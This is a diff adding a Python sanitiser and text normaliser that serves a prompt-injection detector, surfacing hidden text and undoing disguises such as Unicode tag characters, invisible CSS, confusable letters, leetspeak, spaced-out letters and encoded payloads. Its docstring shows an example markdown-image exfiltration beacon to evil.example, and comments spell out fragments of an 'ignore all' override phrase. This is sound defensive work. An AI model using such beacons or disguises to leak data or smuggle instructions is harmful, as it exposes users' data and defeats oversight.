@@ -1,0 +1,203 @@
+"""The input layer's first pass: what a model should not be sent, and what it must not miss.
+
+:func:`sanitise` strips control and zero-width characters (and Unicode "tag" characters, which
+can spell out an invisible ASCII message) and surfaces hidden text: HTML comments, elements
+styled invisible, markdown image links whose URL carries data (the classic exfiltration beacon:
+``![x](https://evil.example/p?d=...)``). :func:`views` gives the injection detector the text
+as a few normalised views (case, whitespace, confusable letters, spaced-out letters, leetspeak,
+base64 and hex payloads decoded), so one phrasing rule catches many disguises.
+"""
+
+from __future__ import annotations
+
+import base64
+import binascii
+import re
+import unicodedata
+from dataclasses import dataclass, field
+
+#: Zero-width, bidi-control and other invisible formatting characters.
+_INVISIBLE = re.compile(
+    "[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180e\u200b-\u200f\u202a-\u202e"
+    "\u2060-\u2064\u2066-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0]"
+)
+#: C0/C1 controls except tab, newline and carriage return.
+_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
+#: Unicode tag characters (U+E0000..U+E007F) mirror ASCII invisibly.
+_TAGS = re.compile("[\U000e0000-\U000e007f]+")
+
+_COMMENT = re.compile(r"<!--(.*?)(?:-->|$)", re.S)
+_HIDDEN_EL = re.compile(
+    r"<(\w+)[^>]*style\s*=\s*['\"][^'\"]*(?:display\s*:\s*none|visibility\s*:\s*hidden|"
+    r"font-size\s*:\s*0|opacity\s*:\s*0(?![.\d]*[1-9]))[^'\"]*['\"][^>]*>(.*?)</\1>"
+    r"|<(\w+)\s[^>]*(?:\bhidden\b|aria-hidden\s*=\s*['\"]true|class\s*=\s*['\"][^'\"]*\b(?:hidden|"
+    r"sr-only|visually-hidden)\b)[^>]*>(.*?)</\3>",
+    re.S | re.I,
+)
+_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]+)>?[^)]*\)")
+_DATA_URL = re.compile(r"[?&#][^=\s]+=|\{|%7b|\$\{|base64", re.I)
+
+
+@dataclass(frozen=True)
+class Sanitised:
+    """A text with invisible characters removed, and what was hidden in it."""
+
+    text: str
+    #: How many invisible or control characters were removed.
+    removed: int = 0
+    #: Hidden text surfaced: ("html_comment" | "hidden_element" | "tag_characters" |
+    #: "image_url", the text).
+    hidden: list[tuple[str, str]] = field(default_factory=list)
+
+    @property
+    def changed(self) -> bool:
+        return bool(self.removed or self.hidden)
+
+
+def sanitise(text: str) -> Sanitised:
+    """Strip invisible characters and collect hidden text (the text itself keeps comments and
+    images: the quarantine markers and the trace show them; the detector reads them)."""
+    hidden: list[tuple[str, str]] = []
+    for m in _TAGS.finditer(text):
+        decoded = "".join(chr(ord(c) - 0xE0000) for c in m.group(0) if ord(c) < 0xE007F)
+        if decoded.strip():
+            hidden.append(("tag_characters", decoded))
+    cleaned, n_tags = _TAGS.subn("", text)
+    cleaned, n_inv = _INVISIBLE.subn("", cleaned)
+    cleaned, n_ctl = _CONTROL.subn("", cleaned)
+    if "<!--" in cleaned:
+        hidden += [("html_comment", m.group(1).strip()) for m in _COMMENT.finditer(cleaned)]
+    if "style" in cleaned or "hidden" in cleaned or "sr-only" in cleaned:
+        hidden += [
+            ("hidden_element", (m.group(2) or m.group(4) or "").strip())
+            for m in _HIDDEN_EL.finditer(cleaned)
+        ]
+    if "![" in cleaned:
+        hidden += [
+            ("image_url", m.group(2))
+            for m in _IMAGE.finditer(cleaned)
+            if _DATA_URL.search(m.group(2))
+        ]
+    removed = sum(len(m.group(0)) for m in _TAGS.finditer(text)) if n_tags else 0
+    return Sanitised(cleaned, removed + n_inv + n_ctl, hidden)
+
+
+# -- normalised views for the detector ------------------------------------------------------
+
+#: Letters from other scripts that look like Latin ones (the common confusables).
+_CONFUSABLES = str.maketrans(
+    {
+        "а": "a", "е": "e", "о": "o", "р": "p", "с": "c", "у": "y", "х": "x", "і": "i",
+        "ј": "j", "ѕ": "s", "ԁ": "d", "ɡ": "g", "һ": "h", "ӏ": "l", "ո": "n", "ս": "u",
+        "α": "a", "ε": "e", "ι": "i", "ο": "o", "ρ": "p", "τ": "t", "υ": "u", "ν": "v",
+        "κ": "k", "η": "n", "ѵ": "v", "ԝ": "w", "ɑ": "a", "ı": "i", "ȷ": "j",
+    }
+)  # fmt: skip
+_LEET = str.maketrans({"0": "o", "1": "i", "3": "e", "4": "a", "5": "s", "7": "t", "@": "a",
+                       "$": "s", "!": "i", "|": "l"})  # fmt: skip
+_LEET_L = str.maketrans({**{chr(k): v for k, v in _LEET.items()}, "1": "l"})
+_SPACE = re.compile(r"\s+")
+#: Letters spelled out one at a time: "i g n o r e", "i.g.n.o.r.e", "i-g-n-o-r-e".
+_SPACED = re.compile(r"(?<!\w)(?:\w(?:[ .\-_*]|\s{2,}){1,3}){4,}\w(?!\w)")
+_B64 = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}|[A-Za-z0-9_-]{20,}={0,2}")
+_HEX = re.compile(r"(?:\\x)?(?:[0-9a-fA-F]{2}(?:\\x|[ :])?){10,}")
+_PRINTABLE = re.compile(r"^[\x20-\x7e\s\u00a0-\uffff]*$")
+
+
+def _decoded(raw: bytes) -> str | None:
+    try:
+        text = raw.decode("utf-8")
+    except UnicodeDecodeError:
+        return None
+    letters = sum(c.isalpha() or c == " " for c in text)
+    if len(text) < 6 or letters < 0.7 * len(text) or not _PRINTABLE.match(text):
+        return None
+    return text
+
+
+def decoded_payloads(text: str) -> list[str]:
+    """Base64 and hex runs in ``text`` that decode to readable text."""
+    found: list[str] = []
+    for m in _B64.finditer(text):
+        s = m.group(0)
+        if s.isalpha() and (s.islower() or s.isupper()):
+            continue  # a long word, not base64
+        try:
+            raw = base64.b64decode(
+                s + "=" * (-len(s) % 4), altchars=b"-_" if "-" in s or "_" in s else None
+            )
+        except (binascii.Error, ValueError):
+            continue
+        if (t := _decoded(raw)) is not None:
+            found.append(t)
+    for m in _HEX.finditer(text):
+        digits = re.sub(r"\\x|[ :]", "", m.group(0))
+        try:
+            raw = bytes.fromhex(digits)
+        except ValueError:
+            continue
+        if (t := _decoded(raw)) is not None:
+            found.append(t)
+    return found
+
+
+def fold(text: str) -> str:
+    """Case, compatibility forms (full-width, ligatures), accents kept, whitespace collapsed."""
+    return _SPACE.sub(" ", unicodedata.normalize("NFKC", text).casefold()).strip()
+
+
+def _join(m: re.Match[str]) -> str:
+    """ "i g n o r e  a l l" -> "ignore all": one separator inside a word, two between words."""
+    words = re.split(r"[ .\-_*]{2,}|\s{2,}", m.group(0))
+    return " ".join(re.sub(r"[ .\-_*]", "", w) for w in words)
+
+
+def views(text: str) -> list[tuple[str, str]]:
+    """The texts the detector reads, labelled: the folded text (``plain``), its confusable
+    letters and leetspeak undone (``confusables``, ``leet``), spaced-out words joined up
+    (``spaced``), and any decoded base64/hex payload (``decoded``, folded too)."""
+    ascii_only = text.isascii()
+    raw = unicodedata.normalize("NFKC", text if ascii_only else _INVISIBLE.sub("", text))
+    raw = raw.casefold()
+    base = _SPACE.sub(" ", raw).strip()
+    out = [("plain", base)]
+    latin = base
+    if not ascii_only:
+        latin = base.translate(_CONFUSABLES)
+        if latin != base:
+            out.append(("confusables", latin))
+        raw = raw.translate(_CONFUSABLES)
+        plain = "".join(
+            c for c in unicodedata.normalize("NFKD", latin) if not unicodedata.combining(c)
+        )
+        if plain != latin:
+            out.append(("accents", plain))
+    tokens = latin.split()
+    if _LEETISH.search(latin):
+        out.append(("leet", latin.translate(_LEET)))
+        if "1" in latin:  # 1 stands for l as often as for i
+            out.append(("leet", latin.translate(_LEET_L)))
+    if _spaced_out(tokens) and _SPACED.search(raw):
+        out.append(("spaced", _SPACE.sub(" ", _SPACED.sub(_join, raw))))
+    if any(len(t) >= 16 for t in tokens):
+        out += [("decoded", fold(p)) for p in decoded_payloads(text)]
+    return out
+
+
+_LEETISH = re.compile(r"[a-z][013457@$|!]+[a-z]|\b[013457][a-z]{2}")
+
+
+def _spaced_out(tokens: list[str]) -> bool:
+    """Cheap pre-test for letters spelled out one at a time (four single letters in a row, or
+    a token like "i.g.n.o.r.e")."""
+    run = 0
+    for t in tokens:
+        if len(t) == 1:
+            run += 1
+            if run >= 4:
+                return True
+        else:
+            run = 0
+            if len(t) >= 7 and t[1] in ".-_*" and t[3] == t[1]:
+                return True
+    return False
